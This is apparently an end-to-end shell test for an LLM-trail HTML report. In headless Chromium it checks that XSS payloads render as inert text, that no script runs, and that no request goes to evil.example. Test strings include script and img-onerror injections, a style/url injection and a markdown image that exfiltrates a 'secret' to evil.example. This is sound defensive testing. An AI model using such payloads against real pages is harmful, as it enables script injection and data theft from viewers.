#!/bin/sh
# report_xss.sh — the HTML report, full of injection payloads, loaded in
# headless Chromium: no script runs, no element is injected, nothing is
# fetched, and every payload shows as text. A control page (a script and an
# <img> pointing at the same host, no CSP) proves that this harness does see
# scripts run and requests made. Screenshots at desktop (1366x900) and
# print-ish (816x1056) size are kept when LLMTRAIL_KEEP_SHOTS names a folder.
# TAP output. Skips visibly when Chromium is not installed.
set -u
: "${LLMTRAIL_BUILDDIR:?}"
gen="$LLMTRAIL_BUILDDIR/tests/e2e/report_gen"
: "${LLMTRAIL_SRCDIR:?}"
. "$LLMTRAIL_SRCDIR/tests/e2e/chromium_lib.sh"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT INT TERM
n=0
ok() { n=$((n + 1)); echo "ok $n - $1"; }
notok() { n=$((n + 1)); echo "not ok $n - $1"; }
check() { if eval "$2"; then ok "$1"; else notok "$1"; fi; }

# run_chromium PAGE NETLOG OUT EXTRA-FLAGS...: --dump-dom (or a screenshot) of PAGE.
run_chromium() {
	page=$1 netlog=$2 out=$3
	shift 3
	profile=$(mktemp -d "$tmp/profile.XXXXXX")
	timeout 120 "$chromium" --headless --no-sandbox --disable-gpu \
		--disable-background-networking --disable-component-update --disable-sync \
		--no-first-run --user-data-dir="$profile" --log-net-log="$netlog" "$@" \
		"file://$page" >"$out" 2>"$tmp/chromium.err"
}

# A missing or empty net log would make "no request" pass vacuously: a log
# Chromium wrote has its "constants" header and its "events" list.
netlog_written() { [ -s "$1" ] && grep -q '"constants"' "$1" && grep -q '"events"' "$1"; }

mkdir -p "$tmp/out"
check "report_gen writes the hostile report" '"$gen" hostile "$tmp/out"'
html="$tmp/out/report.html"

# ---- the harness sees scripts and requests (control) ------------------------
printf '%s\n' '<!DOCTYPE html><title>static</title><img src="https://evil.example/control.png">' \
	'<script>document.title="script ran"</script>' >"$tmp/control.html"
run_chromium "$tmp/control.html" "$tmp/control.net" "$tmp/control.dom" --dump-dom
check "control: the harness sees a script run" 'grep -q "<title>script ran</title>" "$tmp/control.dom"'
check "control: the harness sees a request to evil.example" 'grep -q "evil.example" "$tmp/control.net"'

# ---- static properties of the file ------------------------------------------
check "no <script in the file" '! grep -qi "<script" "$html"'
check "no element a payload could have made" \
	'! grep -Eqi "<(img|iframe|svg onload|link|object|embed|base|form|a href=\"http|meta http-equiv=\"refresh)" "$html"'
check "no href/src other than #fragment or a file of the report set" '! grep -Eio "(href|src)=\"[^\"]*\"" "$html" | grep -Ev "^href=\"(#|integrity\.csv\"|custody\.csv\")"'
check "strict CSP meta" 'grep -q "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src '"'"'none'"'"'; style-src '"'"'unsafe-inline'"'"'; img-src data:" "$html"'
check "bidi override shown as a visible escape" 'grep -q "evil<span class=\"esc\">\\\\u202E</span>txt.exe" "$html"'
check "raw U+202E never written" '! grep -q "$(printf "\342\200\256")" "$html"'

# ---- loaded in Chromium -------------------------------------------------------
run_chromium "$html" "$tmp/report.net" "$tmp/report.dom" --dump-dom
check "chromium loaded the report" '[ -s "$tmp/report.dom" ]'
check "document.title unchanged (no script ran)" 'grep -q "<title>llmtrail report</title>" "$tmp/report.dom"'
check "no injected element in the live DOM" \
	'! grep -Eqi "<(img|iframe|script|object|embed|base|form|svg onload|link )" "$tmp/report.dom"'
check "no request for any payload URL (in a net log that was written)" \
	'netlog_written "$tmp/report.net" && ! grep -q "evil.example" "$tmp/report.net"'
check "payload <script> shown as text" \
	'grep -qF "&lt;script&gt;document.title='"'"'pwned'"'"'&lt;/script&gt;" "$tmp/report.dom"'
check "payload <img onerror> shown as text" \
	'grep -qF "\"&gt;&lt;img src=x onerror=\"document.title='"'"'img'"'"'\"&gt;" "$tmp/report.dom"'
check "payload markdown image shown as text" 'grep -qF "![x](https://evil.example/?q=secret)" "$tmp/report.dom"'
check "payload </style> shown as text" 'grep -qF "&lt;/style&gt;&lt;style&gt;body{background:url(" "$tmp/report.dom"'
check "redacted secret, never the key" \
	'grep -qF "AKIA…(20 chars)" "$tmp/report.dom" && ! grep -q "AKIAIOSFODNN7EXAMPLE" "$tmp/report.dom"'

# Element counts per tag: the live DOM holds exactly the elements of the file
# (the parser adds only <tbody>), so nothing was created by script or by
# mis-nesting. Needs python3; skipped without it.
if command -v python3 >/dev/null 2>&1; then
	cat >"$tmp/tags.py" <<'PY'
import sys, html.parser, collections
class P(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(); self.c = collections.Counter()
    def handle_starttag(self, tag, attrs):
        if tag != "tbody": self.c[tag] += 1
def tags(path):
    p = P(); p.feed(open(path, encoding="utf-8", errors="replace").read()); return p.c
a, b = tags(sys.argv[1]), tags(sys.argv[2])
if a != b:
    print("# differ:", dict((a - b) + (b - a)))
    sys.exit(1)
PY
	check "live DOM has the same elements as the file" 'python3 "$tmp/tags.py" "$html" "$tmp/report.dom"'
else
	n=$((n + 1)); echo "ok $n # SKIP python3 not available for the element count"
fi

# ---- screenshots ----------------------------------------------------------------
run_chromium "$html" "$tmp/shot1.net" /dev/null --window-size=1366,900 --screenshot="$tmp/desktop.png"
check "desktop screenshot (1366x900)" '[ -s "$tmp/desktop.png" ]'
run_chromium "$html" "$tmp/shot2.net" /dev/null --window-size=816,1056 --screenshot="$tmp/print.png"
check "print-size screenshot (816x1056)" '[ -s "$tmp/print.png" ]'
run_chromium "$html" "$tmp/pdf.net" /dev/null --no-pdf-header-footer --print-to-pdf="$tmp/report.pdf"
check "prints to PDF" '[ -s "$tmp/report.pdf" ]'
check "no request while printing (in net logs that were written)" \
	'netlog_written "$tmp/shot1.net" && netlog_written "$tmp/shot2.net" && netlog_written "$tmp/pdf.net" &&
	 ! grep -q "evil.example" "$tmp/shot1.net" "$tmp/shot2.net" "$tmp/pdf.net"'
if [ -n "${LLMTRAIL_KEEP_SHOTS:-}" ]; then
	cp "$tmp/desktop.png" "$tmp/print.png" "$tmp/report.pdf" "$html" "$LLMTRAIL_KEEP_SHOTS/"
fi

echo "1..$n"
